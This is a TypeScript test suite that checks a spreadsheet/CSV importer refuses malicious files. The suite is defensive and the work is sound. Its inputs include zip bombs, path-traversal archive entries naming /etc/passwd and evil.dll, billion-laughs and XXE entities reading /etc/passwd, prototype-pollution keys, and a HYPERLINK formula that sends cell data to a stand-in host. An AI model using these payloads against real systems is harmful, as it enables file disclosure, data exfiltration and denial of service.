/**
 * Files that are made to harm: bombs, archives that lie or climb, XML that expands, names that
 * pollute, texts that would be formulas. What is asserted of a bomb is not the clock but how many
 * bytes were unpacked before it was refused.
 */
import { afterEach, beforeEach, describe, expect, test } from "@jest/globals";
import { deflateRawSync } from "node:zlib";
import * as v from "valibot";
import { openExport, pageOf } from "../../src/channels/exports/import";
import { importLimits, type ImportLimits } from "../../src/channels/exports/limits";
import { writeDelimited } from "../../src/channels/exports/write-delimited";
import { entrySchema } from "../../src/stock/entries";
import { bytesOf, ExportWorld, must, openText, unhurried } from "../channels/exports/export-world";
import {
  rowsXml,
  sheetXml,
  workbook,
  zip,
  type PackedPart,
  type PartToWrite,
} from "../channels/exports/zip-writer";

const MEGA = 1024 * 1024;

/** Bytes that came out of inflate since the test began. */
let unpacked = 0;
const Native = globalThis.DecompressionStream;

beforeEach(() => {
  unpacked = 0;
  globalThis.DecompressionStream = class {
    readonly readable: ReadableStream;
    readonly writable: WritableStream;
    constructor(format: CompressionFormat) {
      const inner = new Native(format);
      this.writable = inner.writable;
      this.readable = inner.readable.pipeThrough(
        new TransformStream({
          transform(chunk: Uint8Array, controller) {
            unpacked += chunk.length;
            controller.enqueue(chunk);
          },
        }),
      );
    }
  } as typeof DecompressionStream;
});

afterEach(() => {
  globalThis.DecompressionStream = Native;
});

async function codeOf(bytes: Uint8Array, limits: Partial<ImportLimits> = {}): Promise<string> {
  const options = { ...unhurried, limits: { ...importLimits, ...limits } };
  const opened = await openExport(bytes, options);
  if (!opened.ok) return opened.error.code;
  // A file whose head is harmless may still be refused further down.
  const rows = opened.value.table.rows(0, {
    due: () => false,
    rest: () => Promise.resolve(null),
  } as never);
  for (;;) {
    const step = await rows.next();
    if (step.done === true) return step.value?.code ?? "taken";
  }
}

const packedZeros = new Map<number, Buffer>();

/** Zeros packed as tightly as deflate can: about a thousand to one. */
function zeros(name: string, megabytes: number, says?: PartToWrite["says"]): PackedPart {
  const packed =
    packedZeros.get(megabytes) ?? deflateRawSync(Buffer.alloc(megabytes * MEGA), { level: 9 });
  packedZeros.set(megabytes, packed);
  const part = { name, packed, unpacked: megabytes * MEGA, crc: 0 };
  return says === undefined ? part : { ...part, says };
}

const sheetName = "xl/worksheets/sheet1.xml";

test("an honest workbook is taken, and counted on its way out of inflate", async () => {
  const bytes = workbook(sheetXml(rowsXml([["SKU", "Quantity", "ItemID"]])));
  expect(await codeOf(bytes)).toBe("taken");
  expect(unpacked).toBeGreaterThan(300);
});

describe("a zip bomb", () => {
  test("that says how large it is unpacks nothing", async () => {
    expect(await codeOf(workbook(zeros(sheetName, 300)))).toBe("unpacks_too_large");
    expect(await codeOf(workbook(zeros(sheetName, 20)))).toBe("unpacks_too_large");
    expect(unpacked).toBe(0);
  });

  test("that lies about its size is stopped at the size it gave", async () => {
    const bytes = workbook(zeros(sheetName, 300, { unpacked: 1000 }));
    expect(await codeOf(bytes)).toBe("unpacks_too_large");
    expect(unpacked).toBeLessThan(10 * MEGA);
  });

  test("in any other part is stopped as well", async () => {
    for (const name of ["xl/workbook.xml", "xl/styles.xml", "xl/sharedStrings.xml"]) {
      const bytes = workbook(sheetXml(""), [zeros(name, 300, { unpacked: 5000 })]);
      expect(await codeOf(bytes)).toMatch(/unpacks_too_large|broken_file/);
    }
    expect(unpacked).toBeLessThan(30 * MEGA);
  });

  test("of many parts is added up before anything is unpacked", async () => {
    const parts = Array.from({ length: 300 }, (_, n) => ({
      ...zeros(`xl/media/${n}.bin`, 1),
      packed: new Uint8Array(12_000),
    }));
    expect(await codeOf(zip(parts))).toBe("unpacks_too_large");
    expect(unpacked).toBe(0);
  });

  test("whose parts share their bytes is refused", async () => {
    const kernel = zeros("a", 1);
    const shared = Array.from({ length: 50 }, (_, n) => ({ ...kernel, name: `b${n}`, at: "a" }));
    expect(await codeOf(zip([kernel, ...shared]))).toBe("unsafe_archive");
    expect(unpacked).toBe(0);
  });

  test("of more than 25 MB, or of a thousand parts, is not even looked into", async () => {
    const large = new Uint8Array(25 * MEGA + 1);
    large.set([0x50, 0x4b, 3, 4]);
    expect(await codeOf(large)).toBe("too_large");
    const parts = Array.from({ length: 1001 }, (_, n) => ({ name: `p${n}`, data: "" }));
    expect(await codeOf(zip(parts))).toBe("unsafe_archive");
  });
});

describe("an archive is refused for", () => {
  const inside: [string, PartToWrite][] = [
    ["an archive in it", { name: "xl/embeddings/more.zip", data: "PK" }],
    ["a workbook in it", { name: "xl/embeddings/more.xlsx", data: "PK" }],
    ["a name that climbs", { name: "../../etc/passwd", data: "x" }],
    ["a name that climbs on Windows", { name: "xl\\..\\..\\evil.dll", data: "x" }],
    ["a name from the root", { name: "/etc/passwd", data: "x" }],
    ["a name with a drive", { name: "C:evil", data: "x" }],
    ["encryption", { name: "xl/secret.xml", data: "x", says: { flags: 1 } }],
    ["a part that is there twice", { name: sheetName, data: "x" }],
  ];

  test.each(inside)("%s", async (_, part) => {
    const sheet = { name: sheetName, data: sheetXml("") };
    expect(await codeOf(zip([sheet, part]))).toBe("unsafe_archive");
    expect(unpacked).toBe(0);
  });
});

describe("XML", () => {
  const laughs =
    '<!DOCTYPE lolz [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">' +
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>';
  const outside = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>';

  test.each([
    ["a billion laughs", laughs + sheetXml(rowsXml([["&c;"]]))],
    ["a file from outside", outside + sheetXml(rowsXml([["&a;"]]))],
    ["an entity that nobody declared", sheetXml(rowsXml([["&c;"]]))],
    ["a declaration in the middle", sheetXml('<!ENTITY a "b">')],
  ])("with %s is refused", async (_, xml) => {
    expect(await codeOf(workbook(xml))).toBe("unsafe_xml");
    const strings = { name: "xl/sharedStrings.xml", data: xml };
    expect(await codeOf(workbook(sheetXml(""), [strings]))).toBe("unsafe_xml");
  });

  test("nested without end, or in one endless tag, is refused", async () => {
    expect(await codeOf(workbook("<a>".repeat(100_000)))).toBe("broken_file");
    expect(await codeOf(workbook(`<a b="${"x y".repeat(20_000)}`))).toBe("broken_file");
  });
});

describe("a table is refused for", () => {
  test("a cell of many megabytes", async () => {
    const long = "x".repeat(20 * MEGA);
    expect(await codeOf(bytesOf(`SKU,Quantity\n${long},1\n`))).toBe("cell_too_long");
    expect(await codeOf(bytesOf(`SKU,Quantity\n"${long}",1\n`))).toBe("cell_too_long");
    expect(await codeOf(bytesOf(`SKU,Quantity\n"${long}`))).toBe("cell_too_long");
    const cell = rowsXml([["x".repeat(40_000)]]);
    const free = { ratioFree: 10 * MEGA };
    expect(await codeOf(workbook(sheetXml(cell)), free)).toBe("cell_too_long");
    const strings = `<sst><si><t>${"x".repeat(40_000)}</t></si></sst>`;
    const more = [{ name: "xl/sharedStrings.xml", data: strings }];
    expect(await codeOf(workbook(sheetXml(""), more), free)).toBe("cell_too_long");
  });

  test("a million columns", async () => {
    expect(await codeOf(bytesOf(`${",".repeat(1_000_000)}\n1,2\n`))).toBe("too_many_columns");
    for (const reference of ["XFE1", "ZZZZZZZZ1", "BDWGN1"]) {
      const row = `<row r="1"><c r="${reference}"><v>1</v></c></row>`;
      expect(await codeOf(workbook(sheetXml(row)))).toBe("too_many_columns");
    }
  });

  test("more cells or rows than it may have", async () => {
    const rows = sheetXml(rowsXml(Array.from({ length: 400 }, (_, n) => [`a${n}`, "b", "c"])));
    expect(await codeOf(workbook(rows), { cellsMax: 1200 })).toBe("taken");
    expect(await codeOf(workbook(rows), { cellsMax: 1199 })).toBe("too_many_cells");
    expect(await codeOf(workbook(rows), { rowsMax: 399 })).toBe("too_many_rows");
    const last = '<row r="1048577"><c><v>1</v></c></row>';
    expect(await codeOf(workbook(sheetXml(last)))).toBe("too_many_rows");
    expect(await codeOf(bytesOf("a,b\n".repeat(1_048_577)))).toBe("too_many_rows");
  });

  test("an honest size that is over all parts too much", async () => {
    const rows = sheetXml(rowsXml(Array.from({ length: 400 }, (_, n) => [`a${n}`, "b", "c"])));
    expect(await codeOf(workbook(rows), { unpackedMax: 20_000 })).toBe("unpacks_too_large");
    expect(unpacked).toBe(0);
  });
});

describe("names that every object has", () => {
  const names = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "valueOf"];

  test("are SKUs, order ids and headers like any others, and pollute nothing", async () => {
    const world = new ExportWorld();
    const stock = ["ItemID,SKU,Quantity", ...names.map((name, n) => `${n},${name},${n + 5}`), ""];
    must(await world.book(await world.plan(await openText(stock.join("\n")))));
    const header = `Order ID,SKU ID,Seller SKU,Quantity,Created Time,Order Status,${names.join(",")}`;
    const orders = names.map((name) => `${name},${name},${name},2,20/11/2026 21:00:00,To ship`);
    const plan = await world.plan(await openText([header, ...orders, ""].join("\n")));
    must(await world.book(plan));
    for (const [n, name] of names.entries()) {
      expect(world.onHand(name)).toBe(n + 5);
      expect(world.committed(name, "tiktok")).toBe(2);
    }
    for (const name of names) {
      const entry = JSON.parse(
        `{"type":"note","seq":1,"bookedAt":1,"key":"k","at":1,"ref":"","kind":"gap","sku":"${name}","channel":"","n":1,"detail":"","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}`,
      );
      expect(v.parse(entrySchema, entry)).toMatchObject({ sku: name, n: 1 });
    }
    expect(({} as Record<string, unknown>)["polluted"]).toBeUndefined();
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});

describe("a text that would be a formula", () => {
  test("stays a text, and what is written of it is guarded", async () => {
    const evil = '=HYPERLINK("http://x.example?"&A1,"hi")';
    const quoted = `"${evil.replaceAll('"', '""')}"`;
    const world = new ExportWorld();
    const file = await openText(
      `ItemID,SKU,Quantity,Title\n1,${quoted},5,${quoted}\n2,@SUM(A1),x,${quoted}\n`,
    );
    const plan = await world.plan(file);
    expect(plan.counts).toMatchObject([{ sku: evil, counted: 5 }]);
    const { refused } = pageOf(plan, 0, 10);
    const table = refused.map(({ row, code, column, cell }) => [row, code, column, cell]);
    const written = writeDelimited([[evil, "@SUM(A1)", -1], ...table]);
    expect(written).toContain('"\'=HYPERLINK(""http');
    expect(written).toContain("'@SUM(A1),-1");
  });
});
